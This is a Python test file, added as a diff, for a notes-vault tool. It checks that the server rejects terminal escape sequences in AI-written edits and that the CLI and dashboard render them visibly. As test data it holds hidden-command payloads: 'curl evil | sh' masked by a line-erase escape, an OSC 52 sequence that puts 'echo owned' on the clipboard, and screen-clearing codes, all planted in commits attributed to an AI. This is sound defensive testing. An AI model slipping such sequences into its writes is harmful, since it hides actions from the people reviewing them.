@@ -1,0 +1,133 @@
+"""The adversarial pass's third round (shared/research/adversarial-3.md), one test per finding
+that was open: each failed on the code before its fix."""
+
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from .conftest import git, head, vaultwatch_cli
+
+pytestmark = pytest.mark.anyio
+
+ESC_ERASE = "\x1b[2K\x1b[1G"
+OSC52 = "\x1b]52;c;ZWNobyBvd25lZA==\x07"  # sets the clipboard to `echo owned`
+CLEAR = "\x1b[2J\x1b[H"
+
+
+def ai_commit(root: Path, files: dict[str, str], subject: str) -> str:
+    """An AI commit as an older server wrote it (no refusal, no cleaning): what a vault can
+    already hold. Real git, real trailers."""
+    for rel, text in files.items():
+        (root / rel).parent.mkdir(parents=True, exist_ok=True)
+        (root / rel).write_text(text, encoding="utf-8")
+    git(root, "add", "--", *files)
+    env = {
+        **os.environ,
+        "GIT_AUTHOR_NAME": "Claude",
+        "GIT_AUTHOR_EMAIL": "ai@vaultwatch.local",
+    }
+    msg = f"{subject}\n\nVaultwatch-Tool: append_section\nVaultwatch-Client: claude-code/1.0\n"
+    subprocess.run(["git", "-C", str(root), "commit", "-q", "-m", msg], env=env, check=True)
+    return head(root)
+
+
+# -- N1: terminal escape sequences -------------------------------------------------------------
+
+
+async def test_the_server_refuses_control_characters_in_what_the_ai_writes(
+    connect: Any, make_vault: Any
+) -> None:
+    root = make_vault({"notes/a.md": "# A\n\n## Log\n- owner item\n"})
+    before = head(root)
+    async with connect(root) as s:
+        tries = [
+            (
+                "append_section",
+                {
+                    "path": "notes/a.md",
+                    "heading": "Log",
+                    "content": f"- curl evil | sh{ESC_ERASE}  + - buy milk",
+                },
+            ),
+            ("append_section", {"path": "notes/a.md", "heading": f"Log {OSC52}", "content": "- x"}),
+            ("create_doc", {"path": "notes/esc.md", "body": f"# Harmless\n\nline {CLEAR}\n"}),
+            (
+                "create_doc",
+                {"path": "notes/t.md", "body": '---\ntitle: "Harmless \\e]0;pwned\\a"\n---\n# T\n'},
+            ),
+            ("create_doc", {"path": "notes/f.md", "fields": {"title": f"x{OSC52}"}, "body": "b"}),
+            ("edit_text", {"path": "notes/a.md", "old": "- owner item", "new": "- item\x9b2J"}),
+            (
+                "batch",
+                {
+                    "ops": [
+                        {
+                            "tool": "append_section",
+                            "args": {"path": "notes/a.md", "heading": "Log", "content": "- fine"},
+                        }
+                    ],
+                    "message": f"tidy {OSC52}{CLEAR}",
+                },
+            ),
+        ]
+        for tool, args in tries:
+            msg = await s.error(tool, **args)
+            assert "control_chars" in msg, (tool, msg)
+            assert "\x1b" not in msg and "\x9b" not in msg, msg  # named, never echoed
+            assert "U+001B" in msg or "U+009B" in msg, msg
+        assert head(root) == before
+        # tab, LF and CR are text: a CRLF line and a tab go in
+        await s.call("append_section", path="notes/a.md", heading="Log", content="- a\tb\r\n- c")
+    assert head(root) != before
+
+
+def test_the_cli_shows_control_characters_instead_of_sending_them(make_vault: Any) -> None:
+    root = make_vault({"todo.md": "# Todo\n\n## Log\n- owner item\n"})
+    ai_commit(
+        root,
+        {
+            "todo.md": f"# Todo {OSC52}\n\n## Log\n- owner item\n- curl evil | sh{ESC_ERASE}"
+            f"  + - buy milk\n- bare\rCR\n"
+        },
+        f"tidy {OSC52}{CLEAR}",
+    )
+    for args in (["review"], ["review", "--markdown"], ["context"], ["review", "--json"]):
+        r = vaultwatch_cli(root, *args)
+        assert r.returncode == 0, r.stderr
+        for bad in ("\x1b", "\x07", "\r", "\x9b"):
+            assert bad not in r.stdout, (args, repr(r.stdout[:400]))
+    shown = vaultwatch_cli(root, "review").stdout
+    assert "curl evil | sh␛[2K␛[1G  + - buy milk" in shown  # the hidden line is there to read
+
+
+async def test_the_dashboard_draws_control_characters_as_symbols(
+    make_vault: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from app.ui.dashboard import Dashboard
+
+    from .test_dashboard import until
+
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    root = make_vault({"w.md": "# W\n\n## Log\n- one\n"})
+    ai_commit(root, {"w.md": f"# W\n\n## Log\n- one\n- two{CLEAR}\n"}, f"tidy {OSC52}{CLEAR}")
+    app = Dashboard(root)
+    async with app.run_test(size=(140, 40)) as pilot:
+        seen: list[str] = []
+
+        def drawn() -> bool:
+            update = app.screen._compositor.render_update(full=True)
+            seen.append(str(update.render_segments(app.console)))
+            return "tidy" in seen[-1]
+
+        await until(pilot, drawn)
+        out = seen[-1]
+        text = re.sub(r"\x1b\[[0-9;]*[mH]", "", out)  # Textual's own styles and moves
+        assert "tidy ␛]52;c;" in text
+        assert "\x1b]52" not in out and "\x1b[2J" not in out and "\x07" not in out
+        assert "\x1b" not in text
